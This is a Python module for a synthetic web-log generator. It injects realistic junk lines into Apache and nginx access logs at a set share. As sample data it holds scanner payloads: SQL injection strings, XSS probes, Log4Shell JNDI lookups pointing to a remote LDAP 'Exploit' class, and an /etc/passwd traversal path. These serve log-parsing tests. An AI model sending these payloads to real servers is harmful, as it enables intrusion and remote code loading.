@@ -1,0 +1,236 @@
+"""Messy lines: the junk every public server logs, mixed into clean traffic at a given share.
+
+A share of requests (chosen by a hash of the request, so the same run gives the same lines)
+becomes one of the kinds below, each at its relative frequency (per 1,000 messy lines): what
+a small public site on the internet sees besides its visitors, ordered from the most common.
+Each is written as Apache (or nginx) writes it, with the same escaping: a TLS ClientHello sent
+to the HTTP port is a ``400`` whose request line is the handshake's first bytes as ``\\x16\\x03``;
+a connection that sent nothing is ``"-" 408 -``; a host name stands where HostnameLookups
+writes one; and the last line of a run may be cut short, as Apache leaves a line when killed.
+
+The run's ``messy.jsonl`` (``synth.run.messy``) names each such line: file, line, kind, and
+what the bundled pipeline does with it.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Any
+
+import numpy as np
+
+from synth.generate.pools import ERROR_SIZE_TABLE, Pools
+from synth.generate.traffic import Events
+from synth.render.connections import mix
+from synth.render.escape import _TABLE, apache_unescape
+
+TRUNCATED = "truncated"
+
+
+@dataclass(frozen=True)
+class Kind:
+    name: str
+    weight: int  # per 1,000 messy lines
+    what: str
+
+
+KINDS = (
+    Kind("empty_request", 230, 'a connection that sent no request before the timeout: "-" 408'),
+    Kind("scanner_sql", 120, "SQL injection in the path or query (a vulnerability scanner)"),
+    Kind("tls_handshake", 110, "a TLS ClientHello sent to the plain-HTTP port: 400"),
+    Kind("scanner_xss", 100, "<script> in the query (a vulnerability scanner)"),
+    Kind("hostname", 80, "a host name where HostnameLookups writes one instead of the address"),
+    Kind("scanner_jndi", 60, "${jndi:ldap://...} in the agent and the query (Log4Shell probes)"),
+    Kind("absolute_uri", 60, "an absolute URI in the request line (an open-proxy probe)"),
+    Kind("connect", 50, "CONNECT host:443 (an open-proxy probe): 405"),
+    Kind("dash_header", 50, 'a client that sends "-" as its User-Agent and Referer'),
+    Kind("raw_space", 40, "a raw space in the target: 400"),
+    Kind("raw_quote", 30, "a raw quote in the target (escaped as \\\" in the line)"),
+    Kind("non_utf8", 30, "bytes that are not UTF-8 in the target (escaped \\xhh)"),
+    Kind("ssh_handshake", 20, "an SSH client's banner sent to the HTTP port: 400"),
+    Kind("http09", 10, 'an HTTP/0.9 request line, no protocol: "GET /"'),
+    Kind("long_url", 10, "a request line past LimitRequestLine (8190 bytes): 414, the line cut there"),
+)
+KIND_NAMES = tuple(k.name for k in KINDS) + (TRUNCATED,)
+_CDF = np.cumsum([k.weight for k in KINDS]) / sum(k.weight for k in KINDS)
+LIMIT_REQUEST_LINE = 8190
+
+
+def choose(events: Events, share: float) -> np.ndarray:
+    """The kind of each request (index into KINDS), -1 for the clean ones."""
+    if share <= 0 or len(events) == 0:
+        return np.full(len(events), -1, np.int64)
+    h = mix(events.t_ms, events.client, events.target, events.agent, np.full(len(events), 0x6D657373))
+    messy = (h % 1_000_000) < int(round(share * 1_000_000))
+    kind = np.searchsorted(_CDF, ((h >> 20) % 1_000_000) / 1_000_000, side="right")
+    return np.where(messy, np.minimum(kind, len(KINDS) - 1), -1)
+
+
+@dataclass
+class Messy:
+    """What a messy line says instead of the request's own values (raw, not yet escaped)."""
+
+    request: str | None = None  # the request line; "" for none ("-" in the log)
+    status: int | None = None
+    size: int | None = None
+    agent: str | None = None
+    referrer: str | None = None
+    client: str | None = None  # a host name for %h
+
+
+def messy_values(kind: int, h: int, address: str, home_size: int) -> Messy:
+    """The values of one messy line of ``kind``, varied by the request's hash ``h``."""
+    name = KINDS[kind].name
+    error = int(ERROR_SIZE_TABLE[400])
+    if name == "empty_request":
+        return Messy(request="", status=408, size=0, agent="", referrer="")
+    if name == "tls_handshake":
+        raw = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + (h.to_bytes(8, "big") * 2)[:10]
+        hello = raw.decode("utf-8", errors="surrogateescape")
+        return Messy(request=hello, status=400, size=error, agent="", referrer="")
+    if name == "ssh_handshake":
+        return Messy(request=("SSH-2.0-Go", "SSH-2.0-libssh2_1.10.0", "SSH-2.0-OpenSSH_8.9p1")[h % 3],
+                     status=400, size=error, agent="", referrer="")
+    if name == "scanner_sql":
+        target = ("/index.php?id=1%27%20UNION%20SELECT%20NULL,NULL,NULL--%20-", "/item/1'%20OR%20'1'='1",
+                  "/product.php?id=-1%20OR%201=1--", "/?p=1%27)%20AND%20SLEEP(5)--")[h % 4]
+        return Messy(request=f"GET {target} HTTP/1.1", status=404, size=int(ERROR_SIZE_TABLE[404]),
+                     agent="sqlmap/1.7.2#stable (https://sqlmap.org)" if h % 2 else "")
+    if name == "scanner_xss":
+        target = ("/search.php?q=<script>alert(document.domain)</script>", "/?s=<script>alert(1)</script>",
+                  "/index.php?page=<svg/onload=alert(1)>")[h % 3]
+        return Messy(request=f"GET {target} HTTP/1.1", status=404, size=int(ERROR_SIZE_TABLE[404]))
+    if name == "scanner_jndi":
+        payload = f"${{jndi:ldap://45.83.{h % 250}.{(h >> 8) % 250}:1389/Exploit}}"
+        return Messy(request=f"GET /?x={payload} HTTP/1.1", status=404, size=int(ERROR_SIZE_TABLE[404]),
+                     agent=payload, referrer=payload if h % 3 == 0 else None)
+    if name == "absolute_uri":
+        host = ("http://www.google.com/", "http://example.com/", "http://checkip.amazonaws.com/")[h % 3]
+        return Messy(request=f"GET {host} HTTP/1.1", status=200, size=home_size, referrer="")
+    if name == "connect":
+        host = ("www.google.com:443", "api.ipify.org:443", "1.1.1.1:443")[h % 3]
+        return Messy(request=f"CONNECT {host} HTTP/1.1", status=405, size=int(ERROR_SIZE_TABLE[405]), referrer="",
+                     agent="Go-http-client/1.1")
+    if name == "dash_header":
+        return Messy(agent="-", referrer="-")
+    if name == "raw_space":
+        target = ("/wp-content/uploads/My Photo.jpg", "/files/annual report 2025.pdf", "/a b")[h % 3]
+        return Messy(request=f"GET {target} HTTP/1.1", status=400, size=error)
+    if name == "raw_quote":
+        return Messy(request='GET /page"onmouseover="alert(1) HTTP/1.1', status=404, size=int(ERROR_SIZE_TABLE[404]))
+    if name == "non_utf8":
+        target = ("/caf\udce9/men\udcfc", "/\udcc0\udcaf\udcc0\udcafetc/passwd", "/%c0%ae%c0%ae/\udcff")[h % 3]
+        return Messy(request=f"GET {target} HTTP/1.1", status=404, size=int(ERROR_SIZE_TABLE[404]))
+    if name == "http09":
+        return Messy(request="GET /", status=200, size=home_size, agent="", referrer="")
+    if name == "long_url":
+        line = "GET /" + "?" + "A" * 9000 + " HTTP/1.1"
+        return Messy(request=line[:LIMIT_REQUEST_LINE], status=414, size=int(ERROR_SIZE_TABLE[414]),
+                     agent="", referrer="")
+    if name == "hostname":
+        return Messy(client=host_name(address, h))
+    raise KeyError(name)
+
+
+def host_name(address: str, h: int) -> str:
+    """The reverse DNS name an access provider gives an address."""
+    if ":" in address:
+        return f"{address.replace(':', '-').strip('-')}.ipv6.{('telekom.de', 'comcast.net', 'ocn.ne.jp')[h % 3]}"
+    dashed = address.replace(".", "-")
+    return (f"{dashed}.dyn.example-isp.net", f"host-{dashed}.static.as{h % 60000}.net",
+            f"ip{dashed}.ct.st.cox.net")[h % 3]
+
+
+def _row(values: dict[str, str]) -> Any:
+    class Row:
+        def __getattr__(self, name: str) -> Any:
+            if name in values:
+                return values[name]
+            return lambda arg: values[f'{name}("{arg}")']
+    return Row()
+
+
+def _apache(raw: str) -> str:
+    """Apache's escaping of raw request bytes (non-UTF-8 bytes held as surrogate escapes)."""
+    if not raw:
+        return "-"
+    return "".join(_TABLE[b] for b in raw.encode("utf-8", errors="surrogateescape"))
+
+
+def override(values: dict[str, str], m: Messy) -> dict[str, str]:
+    """A line's field texts with a messy line's values put in, escaped as each format does."""
+    from synth.render.nginx import escape_value
+    out = dict(values)
+    request = m.request
+    parts = request.split(" ") if request else []
+    method = parts[0] if len(parts) >= 2 else ""
+    target = " ".join(parts[1:-1]) if len(parts) >= 3 else (parts[1] if len(parts) == 2 else "")
+    protocol = parts[-1] if len(parts) >= 3 and parts[-1].startswith("HTTP/") else ""
+    for label in values:
+        name, _, arg = label.partition("(")
+        if name == "nginx":
+            mode, var = arg.strip('")').split("|", 1)
+            raw = {"request": request, "request_method": method if request is not None else None,
+                   "request_uri": target if request is not None else None, "status": _str(m.status),
+                   "body_bytes_sent": _str(m.size), "http_user_agent": m.agent, "http_referer": m.referrer,
+                   "server_protocol": protocol if request is not None else None}.get(var)
+            if raw is not None:
+                out[label] = escape_value(raw, mode)
+            continue
+        if name == "client" and m.client is not None:
+            out[label] = m.client
+        elif name == "request" and request is not None:
+            out[label] = _apache(request)
+        elif name == "method" and request is not None:
+            out[label] = method or "-"
+        elif name == "path" and request is not None:
+            out[label] = _apache(target.split("?", 1)[0])
+        elif name == "query" and request is not None:
+            out[label] = _apache("?" + target.split("?", 1)[1]) if "?" in target else ""
+        elif name == "protocol" and request is not None:
+            out[label] = (protocol or "HTTP/0.9") if request else "-"
+        elif name == "status" and m.status is not None:
+            out[label] = str(m.status)
+        elif name == "bytes" and m.size is not None:
+            out[label] = str(m.size) if m.size else "-"
+        elif name == "body_bytes" and m.size is not None:
+            out[label] = str(m.size)
+        elif name == "agent" and m.agent is not None:
+            out[label] = _apache(m.agent)
+        elif name == "referer" and m.referrer is not None:
+            out[label] = _apache(m.referrer)
+    return out
+
+
+def _str(value: int | None) -> str | None:
+    return None if value is None else str(value)
+
+
+class MessyRenderer:
+    """A LineRenderer whose lines are, at ``share``, messy lines instead (same count, same order)."""
+
+    def __init__(self, inner: Any, share: float, pools: Pools):
+        self.inner, self.share, self.pools = inner, share, pools
+        targets = pools.site.targets
+        home = targets.index("/") if "/" in targets else 0
+        self.home_size = int(pools.site.size[home])
+
+    def __getattr__(self, name: str) -> Any:
+        return getattr(self.inner, name)
+
+    def render(self, events: Events) -> bytes:
+        kinds = choose(events, self.share)
+        messy = np.flatnonzero(kinds >= 0)
+        block = self.inner.render(events)
+        if len(messy) == 0:
+            return block
+        lines = block.split(b"\n")
+        picked = events.take(messy)
+        hashes = mix(picked.t_ms, picked.client, picked.agent).tolist()
+        addresses = self.pools.population.addresses
+        for i, values, kind, h, client in zip(messy.tolist(), self.inner.field_values(picked), kinds[messy].tolist(),
+                                              hashes, picked.client.tolist()):
+            m = messy_values(kind, h, apache_unescape(addresses[client]), self.home_size)
+            text = self.inner.template.render(events=[_row(override(values, m))])
+            lines[i] = text.rstrip("\n").encode("utf-8", errors="surrogateescape")
+        return b"\n".join(lines)
